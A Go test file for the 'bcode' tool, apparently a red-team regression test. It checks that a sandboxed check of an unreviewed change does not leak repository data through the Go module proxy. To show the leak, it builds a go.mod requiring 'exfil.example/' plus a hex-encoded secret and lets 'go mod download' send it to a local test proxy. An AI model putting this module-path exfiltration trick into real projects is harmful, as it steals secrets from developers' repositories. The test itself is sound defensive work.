package main

import (
	"bytes"
	"context"
	"encoding/hex"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bcode-dev/bcode/sandbox/docker/dockertest"
)

// TestRedTeamCheckDockerFetchesOnlyBaseKnown (issue 12, item 4): `bcode
// check --sandbox docker` is for a change nobody has read, and it used to
// run `go mod download` over the head's go.mod on the host, with the
// user's proxy: a module path that encodes the repository's data reached
// the proxy before any container started. The proxy here is a loopback
// httptest server. Armed: the plain host download over the head sends the
// data. Held: bcode check fetches only what the base's go.sum lists (here
// nothing), sends no request for the head's module, and says on stderr
// which module it did not fetch.
func TestRedTeamCheckDockerFetchesOnlyBaseKnown(t *testing.T) {
	evidenceTools(t)
	e := dockertest.Connect(t)
	const ref = "bcode-sandbox:redteamcheck"
	t.Cleanup(func() { _ = e.RemoveImage(context.Background(), ref) })

	var mu sync.Mutex
	var reqs []string
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		reqs = append(reqs, r.URL.Path)
		mu.Unlock()
		http.NotFound(w, r)
	}))
	defer proxy.Close()
	seen := func(s string) bool {
		mu.Lock()
		defer mu.Unlock()
		return strings.Contains(strings.Join(reqs, " "), s)
	}

	secret := "db-password=hunter2"
	data := "d" + hex.EncodeToString([]byte(secret))
	headMod := "module lim\n\ngo 1.21\n\nrequire exfil.example/" + data + " v1.0.0\n"
	repo := evidenceRepo(t, map[string]string{
		".bcode/config.toml": "[sandbox]\nimage = \"" + ref + "\"\n",
		"go.mod":             "module lim\n\ngo 1.21\n",
		"notes.txt":          secret + "\n",
		"lim.go":             "package lim\n\n// Clamp limits n to at most 10.\nfunc Clamp(n int) int { return n }\n",
	}, map[string]string{"go.mod": headMod})
	userEnv := []string{"GOPROXY=" + proxy.URL, "GONOSUMDB=exfil.example", "GOFLAGS=-mod=mod"}

	// Armed: the plain path, go mod download over the head with the
	// user's environment.
	plain := exec.Command("go", "mod", "download")
	plain.Dir = repo
	plain.Env = append(append(os.Environ(), userEnv...), "GOTOOLCHAIN=local")
	plain.CombinedOutput()
	if !seen(data) {
		t.Fatalf("control: plain go mod download sent no request with the data: %q", reqs)
	}
	t.Logf("armed: the proxy received a request naming exfil.example/%s", data)
	mu.Lock()
	reqs = nil
	mu.Unlock()

	bin := filepath.Join(t.TempDir(), "bcode")
	if out, err := exec.Command("go", "build", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("building bcode: %v\n%s", err, out)
	}
	state := t.TempDir()
	run := func(args ...string) (int, string) {
		t.Helper()
		cmd := exec.Command(bin, args...)
		cmd.Env = append(append(os.Environ(), "BCODE_STATE="+state, "BCODE_SANDBOX_GOCACHE="+filepath.Join(state, "seed")), userEnv...)
		var errb bytes.Buffer
		cmd.Stderr = &errb
		start := time.Now()
		err := cmd.Run()
		t.Logf("bcode %s: %s", args[0], time.Since(start).Round(time.Millisecond))
		if ee, ok := err.(*exec.ExitError); ok {
			return ee.ExitCode(), errb.String()
		} else if err != nil {
			t.Fatal(err)
		}
		return 0, errb.String()
	}
	if code, errOut := run("sandbox", "build", "--image", ref); code != 0 {
		t.Fatalf("bcode sandbox build: exit %d\n%s", code, errOut)
	}
	_, errOut := run("check", "--repo", repo, "--base", "HEAD~1", "--head", "HEAD", "--sandbox", "docker", "--no-evidence", "-q")
	if seen("exfil") {
		t.Fatalf("held? no: the proxy received %q", reqs)
	}
	if !strings.Contains(errOut, "not fetching 1 module version(s)") || !strings.Contains(errOut, data) {
		t.Errorf("stderr does not say which module was not fetched:\n%s", errOut)
	}
	t.Logf("held: no request reached the proxy (%d in all)", len(reqs))
}
